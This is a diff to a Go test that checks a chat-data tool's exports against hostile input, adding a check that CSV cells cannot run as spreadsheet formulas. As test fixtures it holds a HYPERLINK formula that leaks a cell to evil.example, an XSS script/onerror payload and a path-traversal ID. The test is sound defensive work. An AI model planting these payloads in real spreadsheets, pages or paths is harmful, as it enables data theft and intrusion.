@@ -4,6 +4,7 @@ import (
 	"bufio"
 	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"io/fs"
@@ -36,6 +37,10 @@ const (
 	hostileHTML = `<script>alert("parley")</script><img src=x onerror=alert(1)>`
 	hostileConv = "../../../../../tmp/parley-escape"
 )
+
+// formulaConv is formula_ids.jsonl's conversation: a spreadsheet formula
+// that every CSV must neutralise.
+const formulaConv = `=HYPERLINK("http://evil.example/?leak="&A1,"open")`
 
 // outcome is where a file's lines must land: events in the lake, dead
 // letters by reason.
@@ -272,6 +277,13 @@ func TestHostileImport(t *testing.T) {
 	if err := db.QueryRow("SELECT count(*) FROM events").Scan(&n); err != nil || n != total.Events {
 		t.Errorf("warehouse events = %d (%v), want %d", n, err, total.Events)
 	}
+	var sqlCSV bytes.Buffer // what parley sql --format csv prints
+	if err := metrics.Query(ctx, db, "SELECT conversation_id, last_queue, most_active_agent_id, customer_id, first_response_s FROM conversations ORDER BY 1", metrics.FormatCSV, &sqlCSV); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(work, "out", "conversations.csv"), sqlCSV.Bytes(), 0o644); err != nil {
+		t.Fatal(err)
+	}
 	if err := db.Close(); err != nil {
 		t.Fatal(err)
 	}
@@ -284,14 +296,16 @@ func TestHostileImport(t *testing.T) {
 	if err != nil {
 		t.Fatalf("qa sample: %v", err)
 	}
-	sampled := false
+	sampled, formula := false, false
 	for _, p := range res.Sampled {
 		sampled = sampled || p.ConversationID == hostileConv
+		formula = formula || p.ConversationID == formulaConv
 	}
-	if !sampled {
-		t.Errorf("the hostile conversation was not sampled (%d picks): the escaping check below would prove little", len(res.Sampled))
+	if !sampled || !formula {
+		t.Errorf("the hostile conversations were not both sampled (%d picks): the escaping checks below would prove little", len(res.Sampled))
 	}
 	checkEscaped(t, filepath.Join(work, "out"))
+	checkSpreadsheetSafe(t, filepath.Join(work, "out"))
 	containedIn(t, work, "in", "lake", "out")
 }
 
@@ -326,6 +340,54 @@ func checkEscaped(t *testing.T, dir string) {
 	}
 	if pages == 0 || escaped == 0 {
 		t.Errorf("%d HTML pages, %d showing the hostile HTML escaped; want both > 0", pages, escaped)
+	}
+}
+
+// checkSpreadsheetSafe fails if a cell of a CSV under dir would run as a
+// spreadsheet formula (it starts with =, +, -, @, tab or carriage return
+// and is not a number), and checks that each CSV holds formula_ids.jsonl's
+// formula neutralised, so the first check means something.
+func checkSpreadsheetSafe(t *testing.T, dir string) {
+	t.Helper()
+	files := 0
+	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
+		if err != nil || filepath.Ext(path) != ".csv" {
+			return err
+		}
+		files++
+		f, err := os.Open(path)
+		if err != nil {
+			return err
+		}
+		defer f.Close()
+		r := csv.NewReader(f)
+		r.FieldsPerRecord = -1
+		rows, err := r.ReadAll()
+		if err != nil {
+			return fmt.Errorf("%s: %w", path, err)
+		}
+		neutralised := false
+		for _, row := range rows {
+			for _, cell := range row {
+				neutralised = neutralised || cell == "'"+formulaConv
+				if cell == "" || !strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					continue
+				}
+				if _, err := strconv.ParseFloat(cell, 64); err != nil {
+					t.Errorf("%s: cell %q would run as a formula", path, cell)
+				}
+			}
+		}
+		if !neutralised {
+			t.Errorf("%s does not hold the neutralised %q", path, formulaConv)
+		}
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if files < 3 { // manifest.csv, ledger.csv, conversations.csv
+		t.Errorf("%d CSV files under %s, want at least 3", files, dir)
 	}
 }
 
